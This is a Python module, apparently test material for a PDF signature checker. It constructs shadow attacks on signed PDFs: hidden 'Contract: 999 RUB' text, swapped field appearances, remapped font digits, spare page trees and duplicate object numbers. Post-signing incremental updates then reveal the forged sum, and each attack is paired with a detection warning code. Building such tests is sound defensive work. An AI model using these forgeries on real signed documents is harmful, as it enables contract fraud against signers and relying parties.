"""Shadow attacks: a document is prepared before it is signed, and changed by a short update after.

Three kinds, after "Shadow Attacks: Hiding and Replacing Content in Signed PDFs" (NDS 2021): hide,
replace, hide and replace. All are made here by hand.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass

from attacks import pdf_forgeries as forge
from attacks.pdf_documents import assemble, objects_of_one_page
from attacks.raw_signing import Redirected
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Writer = IncrementalPdfFileWriter

_EVIL = b"BT /F1 18 Tf 72 700 Td (Contract: 999 RUB) Tj ET"
_PICTURE = b"q 300 0 0 40 60 690 cm /Im1 Do Q"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


def _image(shade: bytes = b"\xff") -> bytes:
    entries = (
        b"/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray"
    )
    return stream(shade, entries)


def _page(resources: bytes, contents: bytes = b"4 0 R", more: bytes = b"") -> bytes:
    return (
        b"<</Type/Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources <<%s>> /Contents %s %s>>"
        % (resources, contents, more)
    )


_FONTS = b"/Font <</F1 5 0 R>>"


def hide_by_picture() -> bytes:
    """Lay a white picture over the evil text; the update takes the picture away."""
    objects = objects_of_one_page(_page(_FONTS + b"/XObject <</Im1 6 0 R>>"))
    objects[4] = stream(_EVIL + b"\n" + _PICTURE)
    objects[6] = _image()
    return assemble(objects)


def hide_by_form() -> bytes:
    """Lay a form that paints white over the evil text."""
    objects = objects_of_one_page(_page(_FONTS + b"/XObject <</Fm1 6 0 R>>"))
    objects[4] = stream(_EVIL + b"\n/Fm1 Do")
    box = b"/Type/XObject/Subtype/Form/BBox [0 0 595 842]"
    objects[6] = stream(b"1 g 60 690 300 40 re f", box)
    return assemble(objects)


def hide_by_second_content() -> bytes:
    """Paint the evil text white by a second part of the page's content."""
    objects = objects_of_one_page(_page(_FONTS, b"[4 0 R 6 0 R]"))
    objects[4] = stream(_EVIL)
    objects[6] = stream(b"1 g 60 690 300 40 re f")
    return assemble(objects)


def hide_by_annotation() -> bytes:
    """Lay a white note over the evil text."""
    objects = objects_of_one_page(_page(_FONTS, more=b"/Annots [6 0 R]"))
    objects[4] = stream(_EVIL)
    objects[6] = (
        b"<</Type/Annot /Subtype/Square /Rect [60 690 360 730] /F 4 /AP <</N 7 0 R>> "
        b"/C [1 1 1] /IC [1 1 1]>>"
    )
    box = b"/Type/XObject/Subtype/Form/BBox [0 0 300 40]"
    objects[7] = stream(b"1 g 0 0 300 40 re f", box)
    return assemble(objects)


def replace_by_field() -> bytes:
    """Show one sum in a form field and keep another as its value."""
    objects = objects_of_one_page(
        _page(_FONTS, more=b"/Annots [6 0 R]"), b"/AcroForm <</Fields [6 0 R]>>"
    )
    objects[6] = (
        b"<</Type/Annot /Subtype/Widget /FT/Tx /T(Sum) /V(999) /Rect [72 600 272 620] /P 3 0 R "
        b"/DA(/F1 12 Tf 0 g) /F 4 /AP <</N 7 0 R>>>>"
    )
    box = b"/Type/XObject/Subtype/Form/BBox [0 0 200 20]/Resources <</Font <</F1 5 0 R>>>>"
    objects[7] = stream(b"/Tx BMC BT /F1 12 Tf 0 g 2 5 Td (100) Tj ET EMC", box)
    return assemble(objects)


def replace_by_font() -> bytes:
    """Draw the sum with a font in which the figures stand for one another."""
    objects = objects_of_one_page()
    objects[4] = stream(_EVIL)
    objects[5] = (
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding <</BaseEncoding/WinAnsiEncoding"
        b"/Differences [57 /one]>>>>"
    )
    return assemble(objects)


def hide_and_replace_by_pages() -> bytes:
    """Keep a whole second document in the file: catalog, pages, page, content."""
    objects = objects_of_one_page()
    objects[6] = b"<</Type/Catalog /Pages 7 0 R>>"
    objects[7] = b"<</Type/Pages /Kids [8 0 R] /Count 1>>"
    objects[8] = _page(_FONTS, b"9 0 R").replace(b"2 0 R", b"7 0 R")
    objects[9] = stream(_EVIL)
    return assemble(objects)


def hide_and_replace_by_number() -> bytes:
    """Write the content twice under one number: the table shows the one, the update the other."""
    data = assemble(objects_of_one_page())
    evil = b"4 0 obj\n%s\nendobj\n" % stream(_EVIL)
    at = data.index(b"xref\n")
    shifted = data[:at] + evil + data[at:]
    return re.sub(rb"startxref\n\d+", b"startxref\n%d" % (at + len(evil)), shifted)


def _drawn_empty(number: int) -> forge.Forge:
    """Redefine an object so that it draws nothing."""

    def change(writer: Writer) -> None:
        entries = {"/Type": "/XObject", "/Subtype": "/Form"}
        held = generic.StreamObject(
            {pdf_name(key): pdf_name(value) for key, value in entries.items()}, stream_data=b" "
        )
        held[pdf_name("/BBox")] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 9, 9)))
        writer.objects[(0, number)] = held

    return forge.updated(change)


def _freed(number: int) -> forge.Forge:
    return lambda data: Redirected({number: None}).appended(data)


def _second_number(data: bytes) -> bytes:
    evil = data.index(b"4 0 obj\n", data.index(b"4 0 obj\n") + 1)
    return Redirected({4: evil}).appended(data)


def _second_catalog(data: bytes) -> bytes:
    return Redirected({6: data.index(b"6 0 obj\n")}, root=6).appended(data)


def _second_pages(data: bytes) -> bytes:
    return Redirected({2: data.index(b"7 0 obj\n")}).appended(data)


def _second_page_content(writer: Writer) -> None:
    page = writer.root["/Pages"]["/Kids"].raw_get(0).get_object()
    page[pdf_name("/Contents")] = generic.IndirectObject(9, 0, writer)
    writer.update_container(page)


def _second_kids(writer: Writer) -> None:
    pages = writer.root["/Pages"]
    pages[pdf_name("/Kids")] = generic.ArrayObject([generic.IndirectObject(8, 0, writer)])
    writer.update_container(pages)


def _catalog_turned(writer: Writer) -> None:
    """Let the catalog with the form and the signature show the second document."""
    writer.root[pdf_name("/Pages")] = generic.IndirectObject(7, 0, writer)
    writer.update_root()


def _first_annotation_gone(writer: Writer) -> None:
    page = writer.root["/Pages"]["/Kids"].raw_get(0).get_object()
    page[pdf_name("/Annots")] = generic.ArrayObject(list(page["/Annots"])[1:])
    writer.update_container(page)


def _honest_font(writer: Writer) -> None:
    font = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )
    writer.objects[(0, 5)] = font


def _field_look(text: bytes) -> forge.Forge:
    def change(writer: Writer) -> None:
        forge._fill(writer, "999", forge.written(text)(writer))

    return forge.updated(change)


def _look_in_place(writer: Writer) -> None:
    box = {"/Type": pdf_name("/XObject"), "/Subtype": pdf_name("/Form")}
    held = generic.StreamObject(
        {pdf_name(key): value for key, value in box.items()},
        stream_data=b"/Tx BMC BT /F1 12 Tf 0 g 2 5 Td (999) Tj ET EMC",
    )
    held[pdf_name("/BBox")] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 200, 20)))
    fonts = generic.DictionaryObject({pdf_name("/F1"): generic.IndirectObject(5, 0, writer)})
    held[pdf_name("/Resources")] = generic.DictionaryObject({pdf_name("/Font"): fonts})
    writer.objects[(0, 7)] = held


@dataclass(frozen=True)
class Shadow:
    """A prepared document, what the look before signing has to say, and the changes after."""

    prepare: Callable[[], bytes]
    warning: str
    """Code of the look before signing."""
    changes: dict[str, forge.Forge]


SHADOWS: dict[str, Shadow] = {
    "hide by picture": Shadow(
        hide_by_picture,
        "presign_text_covered",
        {"picture freed": _freed(6), "picture emptied": _drawn_empty(6)},
    ),
    "hide by form": Shadow(
        hide_by_form,
        "presign_text_covered",
        {"form freed": _freed(6), "form emptied": _drawn_empty(6)},
    ),
    "hide by second content": Shadow(
        hide_by_second_content,
        "presign_text_covered",
        {"content freed": _freed(6), "content emptied": _drawn_empty(6)},
    ),
    "hide by annotation": Shadow(
        hide_by_annotation,
        "presign_annotation_covers",
        {
            "note freed": _freed(6),
            "note taken away": forge.updated(_first_annotation_gone),
            "look emptied": _drawn_empty(7),
        },
    ),
    "replace by field": Shadow(
        replace_by_field,
        "presign_field_differs",
        {
            "look like the value": _field_look(b"999"),
            "look in place": forge.updated(_look_in_place),
            "look freed": _freed(7),
        },
    ),
    "replace by font": Shadow(
        replace_by_font, "presign_font_odd", {"font overwritten": forge.updated(_honest_font)}
    ),
    "hide and replace by pages": Shadow(
        hide_and_replace_by_pages,
        "presign_spare_page",
        {
            "other catalog": _second_catalog,
            "other pages": _second_pages,
            "other pages in the catalog": forge.updated(_catalog_turned),
            "other kids": forge.updated(_second_kids),
            "other content": forge.updated(_second_page_content),
        },
    ),
    "hide and replace by number": Shadow(
        hide_and_replace_by_number, "presign_object_twice", {"other place": _second_number}
    ),
}
